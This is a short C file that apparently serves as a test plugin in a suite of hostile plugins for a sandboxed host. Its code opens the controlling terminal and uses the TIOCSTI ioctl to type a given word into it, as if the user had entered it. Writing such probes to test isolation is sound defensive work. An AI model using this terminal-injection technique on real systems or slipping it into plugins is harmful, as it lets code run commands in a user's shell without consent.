/* Types a word at the terminal that the host was started from, as if its user had. */
#include "hostile.h"

#include <sys/ioctl.h>
#include <termios.h>

static void hostile_attack(void) {
  const char *word = hostile_text("word");
  int fd = (int)syscall(SYS_openat, AT_FDCWD, "/dev/tty", O_RDONLY | O_NONBLOCK, 0);
  if (fd < 0) {
    hostile_failed("openat");
    return;
  }
  for (const char *at = word; *at; at++)
    if (ioctl(fd, TIOCSTI, at) != 0) {
      hostile_failed("ioctl");
      return;
    }
  hostile_succeeded(word, strlen(word));
}

HOSTILE_PLUGIN
